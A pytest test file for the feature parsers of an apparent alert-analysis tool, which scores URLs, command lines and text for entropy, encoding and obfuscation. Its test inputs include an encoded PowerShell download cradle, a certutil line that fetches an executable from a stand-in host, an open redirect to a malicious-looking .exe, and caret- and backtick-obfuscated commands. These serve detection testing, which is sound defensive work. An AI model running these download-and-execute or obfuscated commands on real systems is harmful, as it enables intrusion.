"""Pure field parsers: URLs, command lines and text statistics, with concrete values."""

import math

import pytest

from alertlens.features.parsers import (
    NO_VALUE,
    command_line_features,
    count_percent_encoded,
    executable_name,
    is_encoded_flag,
    shannon_entropy,
    split_command_line,
    text_stats,
    url_features,
)

ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"


@pytest.mark.parametrize(
    ("text", "bits"),
    [("aabb", 1.0), ("", 0.0), ("aaaa", 0.0), ("abcd", 2.0), ("ééaa", 1.0), ("ab" * 3000, 1.0)],
)
def test_shannon_entropy(text, bits):
    # "ééaa" takes the non-ASCII path and "ab" * 3000 the long-text path; all must agree.
    assert shannon_entropy(text) == pytest.approx(bits, abs=1e-12)


def test_entropy_of_aabb_is_exactly_one_bit():
    assert shannon_entropy("aabb") == 1.0


def test_url_features_of_double_encoded_php_path():
    url = url_features("/a/b/c.php?x=1&y=%2527")
    assert url.path_depth == 3.0
    assert url.path_length == 10.0
    assert url.query_length == 11.0
    assert url.n_params == 2.0
    assert url.extension == "php"
    assert url.pct_encoded == 1.0
    assert url.double_encoded == 1.0
    assert math.isnan(url.host_is_ip)  # a bare path has no host to judge


@pytest.mark.parametrize(
    ("text", "host_is_ip", "depth", "extension"),
    [
        ("http://192.168.1.10:8080/x", 1.0, 1.0, NO_VALUE),
        ("https://user@[::1]:443/static/a.JS#frag", 1.0, 2.0, "js"),
        ("https://example.com/dir/", 0.0, 1.0, NO_VALUE),
        ("//cdn.example.com/lib/.htaccess", 0.0, 2.0, NO_VALUE),
        ("/login.jsp;jsessionid=ABC", math.nan, 1.0, "jsp"),
        ("/redirect?to=http://evil.example/a.exe", math.nan, 1.0, NO_VALUE),
        ("", math.nan, 0.0, NO_VALUE),
    ],
)
def test_url_host_depth_extension(text, host_is_ip, depth, extension):
    url = url_features(text)
    assert url.host_is_ip == host_is_ip or (math.isnan(host_is_ip) and math.isnan(url.host_is_ip))
    assert (url.path_depth, url.extension) == (depth, extension)


def test_url_without_double_encoding():
    url = url_features("/search?q=%41%42&&page=2")
    assert (url.pct_encoded, url.double_encoded, url.n_params) == (2.0, 0.0, 2.0)


def test_encoded_powershell_command_line():
    cmd = command_line_features(f"powershell.exe -NoP -enc {ENCODED}")
    assert cmd.executable == "powershell.exe"
    assert cmd.n_args == 3.0
    assert cmd.has_encoded_flag == 1.0
    assert cmd.has_url == 0.0


def test_execution_policy_bypass_is_not_an_encoded_flag():
    cmd = command_line_features("powershell.exe -ExecutionPolicy Bypass -File run.ps1")
    assert cmd.has_encoded_flag == 0.0
    assert cmd.n_args == 4.0


@pytest.mark.parametrize(
    "arg",
    [
        "-e",
        "-en",
        "-enc",
        "-EncodedCommand",
        "-ENCODEDCOMMAND",
        "/enc",
        "-ec",
        "\u2013enc",
        '"-enc"',
    ],
)
def test_encoded_flag_spellings(arg):
    assert is_encoded_flag(arg)


@pytest.mark.parametrize("arg", ["-executionpolicy", "-encodedcommandx", "-", "enc", "-nop"])
def test_not_encoded_flags(arg):
    assert not is_encoded_flag(arg)


def test_quoted_windows_executable_and_quoted_arguments():
    cmd = command_line_features('"C:\\Program Files\\App\\App.EXE" /run "a b" \'c d\'')
    assert cmd.executable == "app.exe"
    assert cmd.n_args == 3.0


def test_split_command_line_keeps_quoted_parts_together():
    assert split_command_line('cmd /c "echo a b"x y') == ["cmd", "/c", '"echo a b"x', "y"]
    assert split_command_line("  a   b ") == ["a", "b"]


def test_executable_name_of_posix_path():
    assert executable_name("/usr/bin/Python3") == "python3"
    assert executable_name('""') == NO_VALUE


def test_url_and_obfuscation_in_command_line():
    cmd = command_line_features('c^m^d /c "who""ami" & certutil -urlcache -f http://x/a.exe a.exe')
    assert cmd.executable == "c^m^d"
    assert cmd.has_url == 1.0
    assert cmd.n_obfuscation_chars == 3.0  # two carets, one doubled quote
    assert command_line_features("iex `(`n`e`w)").n_obfuscation_chars == 4.0


def test_empty_command_line():
    cmd = command_line_features("   ")
    assert (cmd.executable, cmd.n_args, cmd.has_encoded_flag) == (NO_VALUE, 0.0, 0.0)


def test_text_stats_character_classes():
    stats = text_stats("AB12+/==")
    assert stats.length == 8.0
    assert stats.upper_ratio == 0.25
    assert stats.digit_ratio == 0.25
    assert stats.special_ratio == 0.5
    assert stats.longest_base64_run == 8.0
    assert stats.has_base64 == 0.0  # shorter than 20


def test_text_stats_counts_characters_not_bytes():
    stats = text_stats("héllo wörld")
    assert stats.length == 11.0
    assert stats.special_ratio == pytest.approx(2 / 11)  # é and ö; the space is not special
    assert stats.entropy == shannon_entropy("héllo wörld")


def test_hex_run_and_percent_encoding():
    stats = text_stats("id=xx deadBEEF42 zz %41%4g%2F")
    assert stats.hex_run == 10.0
    assert stats.url_encoded_count == 2.0
    assert count_percent_encoded("no escapes") == 0


@pytest.mark.parametrize(
    ("text", "has_base64"),
    [
        (f"powershell -enc {ENCODED}", 1.0),
        ("q=SGVsbG8gd29ybGQhIFRoaXMgaXM=", 1.0),  # "=" inside the run, payload after it decodes
        ("abcdefghijklmnopqrs", 0.0),  # 19 characters: too short
        ("abcdefghijklmnopqrstu", 0.0),  # 21 characters: not a whole number of base64 quanta
        ("C:\\Windows\\System32\\drivers\\etc\\hosts", 0.0),
    ],
)
def test_has_base64(text, has_base64):
    assert text_stats(text).has_base64 == has_base64


def test_text_stats_of_empty_text_are_zero():
    assert text_stats("") == (0.0,) * 9
